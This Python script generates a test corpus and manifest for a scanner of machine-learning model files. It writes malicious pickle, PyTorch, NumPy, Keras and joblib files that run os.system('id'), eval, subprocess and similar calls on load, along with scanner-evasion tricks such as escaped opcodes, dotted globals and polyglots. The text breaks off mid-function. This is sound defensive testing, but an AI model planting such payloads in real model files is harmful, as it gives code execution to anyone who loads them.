#!/usr/bin/python3
"""Writes the model-scanner test corpus (aispm/scan/testdata/corpus) and its
MANIFEST.json: for every file, what it is, how a user would load it, and what
the scanner must say. Files are built with the real libraries where this
machine has them (Debian's python3-torch, -numpy, -joblib, -h5py, -onnx) and
with the pickle opcodes themselves where the point is an exact byte layout.
Nothing here is ever unpickled; scripts/confirm_scan_corpus.py loads every
file the normal way, under audit hooks, to confirm each verdict.

Run with Debian's Python: /usr/bin/python3 scripts/gen_scan_corpus.py [--demo-objects]
"""
import collections, gzip, io, json, os, pickle, struct, sys, tarfile, types, zipfile

OUT = os.path.join(os.path.dirname(__file__), "..", "aispm", "scan", "testdata", "corpus")
MANIFEST = []

def entry(name, expect, loader, why, rule=None, construct=None):
    """expect: clean | dangerous (critical/high finding) | finding (rule given) | malformed | limit.
    loader: how the file is loaded to confirm it (see confirm_scan_corpus.py)."""
    e = {"file": name, "expect": expect, "loader": loader, "why": why}
    if rule:
        e["rule"] = rule
    if construct:
        e["construct"] = construct
    MANIFEST.append(e)

def write(name, data, expect, loader, why, **kw):
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)
    entry(name, expect, loader, why, **kw)

# --- pickle opcode assembly ---------------------------------------------------

class Asm:
    """Builds a pickle opcode by opcode (pickletools names)."""
    def __init__(self, proto=None):
        self.b = bytearray()
        if proto is not None:
            self.b += bytes([0x80, proto])
    def raw(self, b): self.b += b; return self
    def global_(self, module, name): self.b += b"c" + module.encode() + b"\n" + name.encode() + b"\n"; return self
    def ustr(self, s):
        e = s.encode(); self.b += bytes([0x8c, len(e)]) + e; return self
    def binunicode(self, s):
        e = s.encode(); self.b += b"X" + struct.pack("<I", len(e)) + e; return self
    def string(self, lit): self.b += b"S" + lit + b"\n"; return self
    def unicode(self, lit): self.b += b"V" + lit + b"\n"; return self
    def stack_global(self): self.b += b"\x93"; return self
    def mark(self): self.b += b"("; return self
    def tuple(self): self.b += b"t"; return self
    def tuple1(self): self.b += b"\x85"; return self
    def tuple2(self): self.b += b"\x86"; return self
    def empty_dict(self): self.b += b"}"; return self
    def reduce(self): self.b += b"R"; return self
    def memoize(self): self.b += b"\x94"; return self
    def put(self, lit): self.b += b"p" + lit + b"\n"; return self
    def get(self, lit): self.b += b"g" + lit + b"\n"; return self
    def pop(self): self.b += b"0"; return self
    def int_(self, n): self.b += b"K" + bytes([n]); return self
    def stop(self): self.b += b"."; return bytes(self.b)

def call(module, name, *args, proto=2):
    """module.name(*args) with GLOBAL (or STACK_GLOBAL for protocol 4+)."""
    a = Asm(proto)
    if proto >= 4:
        a.ustr(module).ustr(name).stack_global()
    else:
        a.global_(module, name)
    a.mark()
    for x in args:
        if isinstance(x, int):
            a.int_(x)
        else:
            a.binunicode(x)
    return a.tuple().reduce().stop()

# --- stand-in modules, so pickle writes the GLOBALs real files have ------------

class Reduce:
    def __init__(self, fn, args): self.fn, self.args = fn, args
    def __reduce__(self): return (self.fn, self.args)
    def __call__(self, *a): raise RuntimeError("never called")

import builtins, os as _os, subprocess, socket, runpy, webbrowser
PAYLOADS = {
    "os_system": lambda: Reduce(_os.system, ("id",)),
    "subprocess_popen": lambda: Reduce(subprocess.Popen, (["id"],)),
    "builtins_eval": lambda: Reduce(builtins.eval, ("__import__('os').system('id')",)),
    "builtins_exec": lambda: Reduce(builtins.exec, ("import os; os.system('id')",)),
    "runpy": lambda: Reduce(runpy._run_code, ("import os; os.system('id')", {})),
    "socket": lambda: Reduce(socket.create_connection, (("127.0.0.1", 9),)),
    "webbrowser": lambda: Reduce(webbrowser.open, ("http://127.0.0.1:9/",)),
}

def stand_in_torch():
    """A minimal torch, for the byte-compatible state dicts of the demo estate."""
    torch = types.ModuleType("torch"); utils = types.ModuleType("torch._utils")
    class FloatStorage: pass
    FloatStorage.__module__, FloatStorage.__qualname__ = "torch", "FloatStorage"
    def _rebuild_tensor_v2(*a): pass
    _rebuild_tensor_v2.__module__, _rebuild_tensor_v2.__qualname__ = "torch._utils", "_rebuild_tensor_v2"
    torch.FloatStorage = FloatStorage; torch._utils = utils; utils._rebuild_tensor_v2 = _rebuild_tensor_v2
    class Tensor:
        def __init__(self, key, n): self.key, self.n = key, n
        def __reduce__(self):
            return (_rebuild_tensor_v2, (("storage", FloatStorage, self.key, "cpu", self.n), 0, (self.n,), (1,), False, collections.OrderedDict()))
    class StatePickler(pickle.Pickler):
        def persistent_id(self, obj):
            return obj if isinstance(obj, tuple) and obj and obj[0] == "storage" else None
    def state_dict_pickle(protocol=2):
        saved = dict(sys.modules)
        sys.modules["torch"] = torch; sys.modules["torch._utils"] = utils
        try:
            sd = collections.OrderedDict([("encoder.weight", Tensor("0", 16)), ("encoder.bias", Tensor("1", 4))])
            buf = io.BytesIO(); StatePickler(buf, protocol=protocol).dump(sd); return buf.getvalue()
        finally:
            sys.modules.clear(); sys.modules.update(saved)
    return state_dict_pickle

def torch_zip(pkl, root="archive"):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr(root + "/data.pkl", pkl)
        z.writestr(root + "/byteorder", "little")
        z.writestr(root + "/data/0", b"\0" * 64 * 1024)
        z.writestr(root + "/data/1", b"\0" * 16)
        z.writestr(root + "/version", "3\n")
    return buf.getvalue()

def tar_of(members, mode="w"):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode, format=tarfile.PAX_FORMAT) as t:
        for member, data in members:
            info = tarfile.TarInfo(member); info.size = len(data); info.mtime = 0
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()

def npy(header, payload, version=1):
    header += " " * ((64 - (12 + len(header) + 1) % 64) % 64) + "\n"
    h = header.encode("latin1" if version < 3 else "utf8")
    if version == 1:
        return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h + payload
    return b"\x93NUMPY" + bytes([version, 0]) + struct.pack("<I", len(h)) + h + payload

# --- the original corpus (unchanged files: the demo objects are built from them)

def base_corpus(state_dict_pickle):
    for proto in range(0, 6):
        write(f"benign_state_dict_p{proto}.pkl", state_dict_pickle(proto), "clean", "pickle_persistent", f"a state dict (tensors as persistent ids), protocol {proto}")
        for kind, make in PAYLOADS.items():
            write(f"evil_{kind}_p{proto}.pkl", pickle.dumps(make(), protocol=proto), "dangerous", "pickle_all", f"{kind} payload, protocol {proto}")
    chain = Reduce(Reduce(builtins.getattr, (Reduce(builtins.__import__, ("os",)), "system")), ("id",))
    write("evil_getattr_p2.pkl", pickle.dumps(chain, protocol=2), "dangerous", "pickle_all", "getattr(__import__('os'), 'system')('id')")
    write("evil_memoized_stack_global_p4.pkl", pickle.dumps([Reduce(_os.system, ("id",)), Reduce(_os.system, ("id",)), Reduce(_os.getcwd, ())], protocol=4),
          "dangerous", "pickle_all", "STACK_GLOBAL names carried through the memo")
    write("benign_torch.pt", torch_zip(state_dict_pickle(2)), "clean", "torch", "a PyTorch-style zip with a benign data.pkl")
    write("evil_torch.pt", torch_zip(pickle.dumps(Reduce(_os.system, ("id",)), protocol=2)), "dangerous", "torch", "a PyTorch zip whose data.pkl runs os.system")
    def legacy(obj):
        out = io.BytesIO()
        for part in (0x1950a86a20f9469cfc6c, 1001, {"protocol_version": 1001, "little_endian": True}):
            pickle.dump(part, out, protocol=2)
        pickle.dump(obj, out, protocol=2); pickle.dump(["0"], out, protocol=2)
        out.write(b"\x07" * 256)
        return out.getvalue()
    write("benign_legacy.pth", legacy(collections.OrderedDict([("w", 1.0)])), "clean", "pickle_n:5", "a legacy torch.save-style stream: five pickles, then raw bytes")
    write("evil_legacy.pth", legacy(Reduce(_os.system, ("id",))), "dangerous", "torch", "legacy torch.save stream with a payload")
    write("evil_legacy_tar.pt", tar_of([("sys_info", pickle.dumps({"little_endian": True}, protocol=2)), ("pickle", pickle.dumps(Reduce(subprocess.check_output, (["id"],)), protocol=2)), ("storages", pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2)), ("tensors", pickle.dumps(0, protocol=2))]),
          "dangerous", "torch", "legacy torch tar whose pickle member runs a command")
    write("benign_array.npy", npy("{'descr': '<f4', 'fortran_order': False, 'shape': (2,), }", struct.pack("<2f", 1.0, 2.0)), "clean", "numpy", "a float32 array")
    write("evil_object_array.npy", npy("{'descr': '|O', 'fortran_order': False, 'shape': (2,), }", pickle.dumps([Reduce(_os.system, ("id",)), 2], protocol=3)), "dangerous", "numpy", "an object array whose data pickle runs os.system")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("weights.npy", npy("{'descr': '<f4', 'fortran_order': False, 'shape': (2,), }", struct.pack("<2f", 1.0, 2.0)))
        z.writestr("meta.npy", npy("{'descr': '|O', 'fortran_order': False, 'shape': (), }", pickle.dumps(Reduce(_os.system, ("id",)), protocol=3)))
    write("evil_arrays.npz", buf.getvalue(), "dangerous", "npz:meta", "an .npz with an object array member")
    write("benign_model.keras", keras_zip([DENSE]), "clean", "keras", "a Keras v3 archive of Dense layers")
    write("evil_lambda.keras", keras_zip([DENSE, {"class_name": "Lambda", "config": {"name": "exfil", "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA"}}}}]), "dangerous", "keras", "a Lambda layer")
    write("evil_lambda.h5", b"\x89HDF\r\n\x1a\n" + b"\0" * 120 + json.dumps({"class_name": "Functional", "config": {"layers": [{"class_name": "Lambda", "config": {"name": "l"}}]}}).encode() + b"\0" * 64,
          "dangerous", "json_in_file", "an .h5 whose model_config names a Lambda layer")
    write("benign.safetensors", safetensors({"__metadata__": {"format": "pt"}, "w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}}, b"\0" * 16), "clean", "safetensors", "a valid safetensors file")
    write("bad_offsets.safetensors", safetensors({"w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 4096]}}, b"\0" * 16), "finding", "safetensors_fails", "offsets past the end", rule="safetensors_invalid")
    write("benign.gguf", gguf_file([("general.architecture", 8, "llama")], []), "clean", "gguf", "a sane GGUF header")
    write("bad_counts.gguf", b"GGUF" + struct.pack("<IQQ", 3, 1 << 40, 5) + b"\0" * 32, "finding", "gguf_fails", "a GGUF claiming 2^40 tensors", rule="gguf_invalid")

DENSE = {"class_name": "Dense", "config": {"name": "dense", "units": 4}}

def keras_zip(layers, raw_config=None, prefix=b""):
    cfg = {"class_name": "Sequential", "config": {"name": "m", "layers": layers}}
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("config.json", raw_config if raw_config is not None else json.dumps(cfg))
        z.writestr("metadata.json", "{}")
        z.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\0" * 64)
    return prefix + buf.getvalue()

def safetensors(hdr, data):
    h = json.dumps(hdr).encode(); return struct.pack("<Q", len(h)) + h + data

def gguf_str(s):
    e = s.encode(); return struct.pack("<Q", len(e)) + e

def gguf_file(kvs, tensors, version=3, align=32):
    """kvs: (key, type, value); tensors: (name, dims, ggml_type, data bytes)."""
    out = b"GGUF" + struct.pack("<IQQ", version, len(tensors), len(kvs))
    for key, typ, val in kvs:
        out += gguf_str(key) + struct.pack("<I", typ)
        if typ == 8:
            out += gguf_str(val)
        elif typ == 4:
            out += struct.pack("<I", val)
        elif typ == 9:
            et, items = val
            out += struct.pack("<IQ", et, len(items))
            for it in items:
                out += gguf_str(it) if et == 8 else struct.pack("<i", it)
    off = 0
    infos = b""
    for name, dims, typ, data in tensors:
        infos += gguf_str(name) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d) for d in dims) + struct.pack("<IQ", typ, off)
        off += (len(data) + align - 1) // align * align
    out += infos
    out += b"\0" * ((align - len(out) % align) % align)
    for _, _, _, data in tensors:
        out += data + b"\0" * ((align - len(data) % align) % align)
    return out

# --- 1. streams of several pickles ----------------------------------------------

def stacked():
    benign = pickle.dumps({"epoch": 3, "lr": 0.1}, protocol=2)
    write("evil_stacked_second.pkl", benign + pickle.dumps(Reduce(_os.system, ("id",)), protocol=2), "dangerous", "pickle_all", "a benign pickle, then a payload pickle")
    write("evil_stacked_p0_second.pkl", pickle.dumps([1, 2], protocol=4) + pickle.dumps(Reduce(_os.system, ("id",)), protocol=0),
          "dangerous", "pickle_all", "the second pickle is protocol 0: it has no PROTO opcode")
    write("evil_stacked_many.pkl", benign * 20 + pickle.dumps(Reduce(_os.system, ("id",)), protocol=1), "dangerous", "pickle_all", "the payload is the 21st pickle")
    write("benign_stacked.pkl", benign + pickle.dumps([1, 2, 3], protocol=0) + pickle.dumps("x", protocol=4), "clean", "pickle_all", "three benign pickles")
    write("limit_pickle_count.pkl", pickle.dumps(1, protocol=2) * 1100, "limit", "pickle_all", "more pickles than the scanner's 1,024 bound: not clean, says so")

# --- real PyTorch files ------------------------------------------------------------

def real_torch():
    import torch, argparse, pathlib
    import numpy as np
    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Linear(8, 16), torch.nn.ReLU(), torch.nn.Linear(16, 128))
    opt = torch.optim.Adam(model.parameters())
    model(torch.randn(2, 8)).sum().backward(); opt.step()
    ckpt = {"epoch": 7, "model": model.state_dict(), "optimizer": opt.state_dict(), "loss": torch.tensor(0.25),
            "args": argparse.Namespace(lr=0.001, layers=[8, 16]), "path": pathlib.PurePosixPath("/data/run1"),
            "seen": {1, 2, 3}, "frozen": frozenset({4}), "blob": b"\x00\x01", "np_scalar": np.float32(1.5),
            "np_array": np.arange(6, dtype=np.int64), "complex": 1 + 2j, "range": range(3), "big": 2 ** 80}
    for proto in (2, 4):
        buf = io.BytesIO(); torch.save(ckpt, buf, pickle_protocol=proto)
        write(f"benign_torch_checkpoint_p{proto}.pt", buf.getvalue(), "clean", "torch", f"a real torch.save checkpoint (state dicts, optimizer, Namespace, numpy), protocol {proto}")
    # Legacy (non-zip) torch.save: raw storage records follow the pickles; a
    # 128-element storage makes the first raw byte 0x80, which looks like PROTO.
    sd = collections.OrderedDict([("w", torch.ones(128)), ("b", torch.zeros(3, dtype=torch.float64))])
    buf = io.BytesIO(); torch.save(sd, buf, _use_new_zipfile_serialization=False)
    write("benign_torch_legacy_numel128.pth", buf.getvalue(), "clean", "torch", "a real legacy torch.save: the raw bytes after the pickles start with 0x80")
    buf = io.BytesIO(); torch.save(sd, buf, _use_new_zipfile_serialization=False, pickle_protocol=2)
    write("benign_torch_legacy_p2.pth", buf.getvalue(), "clean", "torch", "a real legacy torch.save, protocol 2")
    # A pickled tensor (not torch.save): torch.storage._load_from_bytes holds a nested torch.save.
    write("benign_pickled_tensor.pkl", pickle.dumps(torch.arange(4.0), protocol=2), "clean", "pickle_all", "pickle.dumps of a tensor: a nested torch.save judged too")
    # The magic number pickle, then a payload in sys_info: torch.load unpickles it.
    out = io.BytesIO()
    pickle.dump(0x1950a86a20f9469cfc6c, out, protocol=2); pickle.dump(1001, out, protocol=2)
    pickle.dump(Reduce(_os.system, ("id",)), out, protocol=2)
    write("evil_legacy_sys_info.pth", out.getvalue(), "dangerous", "torch", "legacy torch stream whose third pickle (sys info) runs os.system")
    # Any archive root name.
    write("evil_torch_other_root.pt", torch_zip(pickle.dumps(Reduce(_os.system, ("id",)), protocol=2), root="my model v2"), "dangerous", "torch", "a torch zip whose root folder is not 'archive'")

# --- 2. every member a loader may unpickle -------------------------------------------

def members():
    def legacy_tar(storages=None, tensors=None, pkl=None):
        FloatStorage = torch_global("FloatStorage")
        st = storages if storages is not None else (pickle.dumps(1, protocol=2) + pickle.dumps((0, "cpu", FloatStorage), protocol=2)
              + struct.pack("<q", 4) + struct.pack("<4f", 1, 2, 3, 4) + pickle.dumps([], protocol=2))
        te = tensors if tensors is not None else (pickle.dumps(1, protocol=2) + pickle.dumps((1, 0, torch_global("FloatTensor")), protocol=2)
              + struct.pack("<i", 1) + b"\0" * 4 + struct.pack("<q", 4) + struct.pack("<q", 1) + struct.pack("<q", 0))
        pk = pkl if pkl is not None else torch_tar_pickle()
        return tar_of([("sys_info", pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)),
                       ("pickle", pk), ("storages", st), ("tensors", te)])
    write("benign_legacy_tar.pt", legacy_tar(), "clean", "torch", "a legacy torch tar (storages, tensors, pickle members)")
    write("evil_legacy_tar_storages.pt", legacy_tar(storages=pickle.dumps(Reduce(_os.system, ("id",)), protocol=2)), "dangerous", "torch", "the payload is in the storages member")
    write("evil_legacy_tar_tensors.pt", legacy_tar(tensors=pickle.dumps(1, protocol=2) + pickle.dumps(Reduce(_os.system, ("id",)), protocol=2)), "dangerous", "torch", "the payload is in a tensors record")
    # An .npz member whose name has no .npy suffix.
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("weights.npy", npy("{'descr': '<f4', 'fortran_order': False, 'shape': (2,), }", struct.pack("<2f", 1.0, 2.0)))
        z.writestr("payload", npy("{'descr': '|O', 'fortran_order': False, 'shape': (), }", pickle.dumps(Reduce(_os.system, ("id",)), protocol=3)))
    write("evil_npz_member_noext.npz", buf.getvalue(), "dangerous", "npz:payload", "an .npz array member without the .npy suffix")
    # A plain (uncompressed) tar holding a model file.
    write("evil_plain.tar", tar_of([("model/README.md", b"hello"), ("model/model.joblib", pickle.dumps(Reduce(_os.system, ("id",)), protocol=4))]), "dangerous", "tar:model/model.joblib:pickle_all", "a plain .tar with a malicious joblib inside")
    write("benign_plain.tar", tar_of([("model/model.safetensors", safetensors({"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}, b"\0" * 4))]), "clean", "tar:model/model.safetensors:safetensors", "a plain .tar with a safetensors file")

def torch_global(name):
    import torch
    return getattr(torch, name)

def torch_tar_pickle():
    """The 'pickle' member of a legacy tar: the object, with each tensor as the
    persistent id of its record in the 'tensors' member."""
    class P(pickle.Pickler):
        def persistent_id(self, obj):
            return "1" if obj == "TENSOR1" else None
    buf = io.BytesIO(); P(buf, protocol=2).dump(collections.OrderedDict([("w", "TENSOR1")])); return buf.getvalue()

# --- 3. NumPy headers as Python literals ---------------------------------------------

def numpy_headers():
    import numpy as np
    body = pickle.dumps([Reduce(_os.system, ("id",))], protocol=3)
    for name, header, why in [
        ("evil_npy_dquote.npy", '{"descr": "|O", "fortran_order": False, "shape": (1,)}', "double quotes"),
        ("evil_npy_spacing.npy", "{ 'descr' :'|O' ,'fortran_order':False,'shape':( 1, ) }", "odd spacing"),
        ("evil_npy_dupkey.npy", "{'descr': '<f8', 'fortran_order': False, 'shape': (1,), 'descr': '|O'}", "a duplicate key: the last wins"),
        ("evil_npy_object_word.npy", "{'descr': 'object', 'fortran_order': False, 'shape': (1,)}", "the dtype spelled 'object'"),
        ("evil_npy_concat.npy", "{'descr': '|' 'O', 'fortran_order': False, 'shape': (1,)}", "implicit string concatenation"),
        ("evil_npy_comment.npy", "{'descr': # dtype\n 'O', 'fortran_order': False, 'shape': (1,)}", "a comment inside the literal"),
        ("evil_npy_escape.npy", "{'descr': '\\x4f', 'fortran_order': False, 'shape': (1,)}", "the O written as an escape"),
    ]:
        write(name, npy(header, body), "dangerous", "numpy", "object dtype with " + why)
    arr = np.zeros(2, dtype=[("a", "<f8"), ("b", "O")]); arr["b"][0] = Reduce(_os.system, ("id",))
    buf = io.BytesIO(); np.save(buf, arr, allow_pickle=True)
    write("evil_npy_structured.npy", buf.getvalue(), "dangerous", "numpy", "a structured dtype with an object field")
    buf = io.BytesIO(); np.save(buf, np.zeros(3, dtype=[("a", "<f8"), ("b", "<i4", (2,))]))
    write("benign_npy_structured.npy", buf.getvalue(), "clean", "numpy", "a structured dtype without objects")
    buf = io.BytesIO(); np.save(buf, np.arange(12, dtype=np.float64).reshape(3, 4))
    write("benign_npy_2d.npy", buf.getvalue(), "clean", "numpy", "a 3x4 float64 array")
    write("bad_npy_shape.npy", npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1000,), }", b"\0" * 16), "malformed", "numpy_fails", "a shape larger than the data")

# --- 4. Python's exact decoding ---------------------------------------------------------

def decoding():
    write("evil_builtin_eval_p0.pkl", Asm().global_("__builtin__", "eval").mark().string(b"'__import__(\"os\").system(\"id\")'").tuple().reduce().stop(),
          "dangerous", "pickle_all", "Python 2's __builtin__.eval, remapped to builtins")
    write("evil_commands_p0.pkl", Asm().global_("commands", "getoutput").mark().string(b"'id'").tuple().reduce().stop(),
          "dangerous", "pickle_all", "Python 2's commands module, remapped to subprocess")
    write("evil_string_escape.pkl", Asm(2).string(b"'\\x6fs'").string(b"'sy\\163tem'").stack_global().mark().string(b"'id'").tuple().reduce().stop(),
          "dangerous", "pickle_all", "STRING arguments with \\x and octal escapes spelling os.system")
    write("evil_unicode_escape.pkl", Asm(4).unicode(b"\\u006fs").unicode(b"sys\\u0074em").stack_global().mark().unicode(b"id").tuple().reduce().stop(),
          "dangerous", "pickle_all", "UNICODE arguments with \\u escapes spelling os.system")
    write("evil_put_underscore.pkl", Asm(2).binunicode("os").put(b" 1_0").pop().binunicode("system").put(b"+11").pop()
          .get(b"10").get(b"1_1 ").stack_global().mark().binunicode("id").tuple().reduce().stop(),
          "dangerous", "pickle_all", "PUT/GET arguments as int() reads them: ' 1_0', '+11'")
    body = Asm().raw(b"").global_("os", "system").mark().binunicode("id").tuple().reduce().stop()
    write("evil_frame_short.pkl", bytes([0x80, 4, 0x95]) + struct.pack("<Q", 4) + body, "dangerous", "pickle_all", "a FRAME whose length covers 4 bytes of the payload")
    write("evil_deep_marks.pkl", bytes([0x80, 2]) + b"(" * 1_100_000 + Asm().global_("os", "system").mark().binunicode("id").tuple().reduce().stop(),
          "dangerous", "pickle_all", "1.1 million MARKs (past the scanner's stack bound) before the payload")
    write("benign_py2_builtins_p2.pkl", Asm(2).global_("__builtin__", "set").mark().global_("__builtin__", "list").mark().mark().int_(1).tuple().tuple().reduce().tuple().reduce()
          .pop().global_("__builtin__", "long").mark().binunicode("7").tuple().reduce().pop().global_("__builtin__", "frozenset").mark().tuple().reduce()
          .pop().global_("__builtin__", "complex").mark().int_(1).int_(2).tuple().reduce().pop().global_("__builtin__", "xrange").mark().int_(3).tuple().reduce().stop(),
          "clean", "pickle_all", "Python 2 builtins names for plain containers")

# --- 5. dotted names (protocol 4 attribute paths) ------------------------------------------

def dotted():
    write("evil_dotted_numpy_runstring.pkl", Asm(4).ustr("numpy").ustr("testing._private.utils.runstring").stack_global()
          .mark().binunicode("import os; os.system('id')").empty_dict().tuple().reduce().stop(),
          "dangerous", "pickle_all", "numpy + testing._private.utils.runstring: exec through an attribute path")
    write("evil_dotted_tempfile_os.pkl", Asm(4).ustr("tempfile").ustr("_os.system").stack_global().mark().binunicode("id").tuple().reduce().stop(),
          "dangerous", "pickle_all", "tempfile + _os.system: os reached through an alias")
    write("evil_dotted_torch_hub.pkl", Asm(4).ustr("torch").ustr("hub.load").stack_global().mark().binunicode("aispm-test/repo").binunicode("m").tuple().reduce().stop(),
          "dangerous", "pickle_all", "torch + hub.load: downloads and runs code")
    write("evil_dotted_argparse_os.pkl", Asm(4).ustr("argparse").ustr("_os.system").stack_global().mark().binunicode("id").tuple().reduce().stop(),
          "dangerous", "pickle_all", "argparse + _os.system: an allow-listed module is not a prefix rule")
    write("evil_dotted_globals.pkl", Asm(4).ustr("argparse").ustr("Namespace.__init__.__globals__").stack_global().stop(),
          "dangerous", "pickle_globals", "argparse.Namespace is allowed, but the path walks on to a module's globals")

# --- 6. severity that means something ---------------------------------------------------------

def severity():
    write("evil_unknown_called.pkl", call("logging", "FileHandler", "aispm_pwned.log"),
          "dangerous", "pickle_all", "an import neither allowed nor denied, called at load time", rule="pickle_unknown_import")
    write("evil_pydoc_pipepager.pkl", call("pydoc", "pipepager", "text", "id"), "dangerous", "pickle_all", "pydoc.pipepager runs a command")
    import logging.config, doctest, distutils.spawn, uuid
    write("evil_logging_dictconfig.pkl", pickle.dumps(Reduce(logging.config.dictConfig, ({"version": 1, "handlers": {"h": {"()": "os.system", "command": "id"}}},)), protocol=2),
          "dangerous", "pickle_all", "logging.config.dictConfig calls any factory")
    write("evil_ext_registry.pkl", Asm(2).global_("copyreg", "add_extension").mark().binunicode("os").binunicode("system").raw(b"M\xef\xbe").tuple().reduce().pop()
          .raw(b"\x83\xef\xbe").mark().binunicode("id").tuple().reduce().stop(), "dangerous", "pickle_all", "copyreg.add_extension, then an EXT2 import")
    write("evil_doctest.pkl", pickle.dumps(Reduce(doctest.run_docstring_examples, (">>> __import__('os').system('id')\n", {})), protocol=2),
          "dangerous", "pickle_all", "doctest runs the examples it is given")
    write("evil_cprofile_run.pkl", call("cProfile", "run", "import os; os.system('id')"), "dangerous", "pickle_all", "cProfile.run executes a string")
    write("evil_distutils_spawn.pkl", pickle.dumps(Reduce(distutils.spawn.spawn, (["id"],)), protocol=2), "dangerous", "pickle_all", "distutils.spawn.spawn runs a command")
    write("evil_osx_support.pkl", call("_osx_support", "_read_output", "id"), "dangerous", "pickle_all", "_osx_support._read_output runs a command")
    write("evil_uuid_command.pkl", pickle.dumps(Reduce(uuid._get_command_stdout, ("id",)), protocol=2), "dangerous", "pickle_all", "uuid's command helper runs a command")

# --- 7. containers and polyglots ----------------------------------------------------------------

def polyglots():
    evil = pickle.dumps(Reduce(_os.system, ("id",)), protocol=2)
    benign_zip = io.BytesIO()
    with zipfile.ZipFile(benign_zip, "w") as z:
        z.writestr("readme.txt", "hello")
    write("evil_pickle_then_zip.pkl", evil + benign_zip.getvalue(), "dangerous", "pickle_all", "a payload pickle with a zip appended: judged as both")
    write("evil_junk_before.keras", keras_zip([{"class_name": "Lambda", "config": {"name": "x"}}], prefix=b"\x00JUNK" * 100), "dangerous", "keras", "junk before a .keras zip (zipfile still opens it)")
    write("evil_polyglot_pickle_keras.keras", pickle.dumps({"a": 1}, protocol=2) + keras_zip([{"class_name": "Lambda", "config": {"name": "x"}}]), "dangerous", "keras",
          "a benign pickle that is also a .keras zip with a Lambda layer")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("archive/data.pkl", evil + b"\0" * (64 << 20))
        z.writestr("archive/version", "3\n")
    write("evil_bomb_member.pt", buf.getvalue(), "dangerous", "zip_pickles", "a compression-bomb data.pkl that still holds a payload: both reported", rule="archive_compression_ratio")

# --- 8. Keras / HDF5 ------------------------------------------------------------------------------

def keras_h5():
    import h5py, numpy as np
    lam = {"class_name": "Lambda", "config": {"name": "exfil", "function": ["4wEAAAAAAAAA", None, None]}}
    write("evil_lambda_escaped.keras", keras_zip([], raw_config='{"class_name": "Sequential", "config": {"layers": [{"class_name": "\\u004cambda", "config": {"name": "x"}}]}}'),
          "dangerous", "keras", "the class name written with a JSON escape")
    deep = lam
    for _ in range(300):
        deep = {"class_name": "Wrapper", "config": {"layer": deep}}
    write("evil_lambda_deep.keras", keras_zip([deep]), "dangerous", "keras", "a Lambda layer nested 300 levels deep")
    write("evil_keras_module.keras", keras_zip([{"module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}]),
          "dangerous", "keras", "a Keras 3 object imported from builtins.exec", rule="keras_unsafe_object")
    def h5(name, attrs, big=False, vlen=True):
        path = os.path.join(OUT, name)
        with h5py.File(path, "w") as f:
            if big:
                f.create_dataset("model_weights/dense/kernel", data=np.random.default_rng(0).standard_normal(100_000).astype("float32"))
            for k, v in attrs.items():
                f.attrs[k] = v if vlen else np.bytes_(v)
        return open(path, "rb").read()
    cfg = json.dumps({"class_name": "Functional", "config": {"layers": [DENSE, lam]}})
    spaced = cfg.replace('"class_name": "Lambda"', '"class_name"  :   "Lambda"')
    data = h5("evil_lambda_spaced.h5", {"model_config": spaced.encode()}, vlen=False)
    entry("evil_lambda_spaced.h5", "dangerous", "h5", "a fixed-length model_config attribute with extra spacing")
    h5("evil_lambda_after_weights.h5", {"model_config": cfg}, big=True)
    entry("evil_lambda_after_weights.h5", "dangerous", "h5", "a vlen model_config written after 400 KB of weights")
    h5("benign_keras.h5", {"model_config": json.dumps({"class_name": "Sequential", "config": {"layers": [DENSE]}}), "keras_version": "2.15.0"}, big=True)
    entry("benign_keras.h5", "clean", "h5", "a Keras .h5 with Dense layers and weights")

# --- 9. joblib ----------------------------------------------------------------------------------

def joblib_files():
    import joblib, numpy as np
    def dump(name, obj, compress=0):
        path = os.path.join(OUT, name)
        joblib.dump(obj, path, compress=compress)
    dump("benign_joblib_arrays.joblib", {"w": np.arange(1000.0), "b": np.zeros(7, dtype=np.int16), "s": np.array(["a", "bc"])})
    entry("benign_joblib_arrays.joblib", "clean", "joblib", "joblib arrays written inline into the pickle stream")
    dump("evil_joblib_after_array.joblib", {"w": np.arange(1000.0), "z": Reduce(_os.system, ("id",))})
    entry("evil_joblib_after_array.joblib", "dangerous", "joblib", "the payload comes after 8,000 bytes of inline array data")
    obj = np.empty(2, dtype=object); obj[0] = Reduce(_os.system, ("id",))
    dump("evil_joblib_object_array.joblib", {"o": obj})
    entry("evil_joblib_object_array.joblib", "dangerous", "joblib", "an object array: joblib writes a nested pickle")
    for comp, ext in [("zlib", "z"), ("gzip", "gz"), ("bz2", "bz2"), ("xz", "xz"), ("lzma", "lzma")]:
        dump(f"evil_joblib_{comp}.joblib.{ext}", {"w": np.arange(10.0), "z": Reduce(_os.system, ("id",))}, compress=(comp, 3))
        entry(f"evil_joblib_{comp}.joblib.{ext}", "dangerous", "joblib", f"a {comp}-compressed joblib file")
    dump("benign_joblib_xz.joblib.xz", {"w": np.arange(100.0)}, compress=("xz", 3))
    entry("benign_joblib_xz.joblib.xz", "clean", "joblib", "an xz-compressed benign joblib file")

# --- 10. ONNX, TensorFlow, GGUF ------------------------------------------------------------------

def onnx_files():
    import onnx
    from onnx import helper, TensorProto
    def model(nodes, inits=(), opsets=(("", 13),), funcs=()):
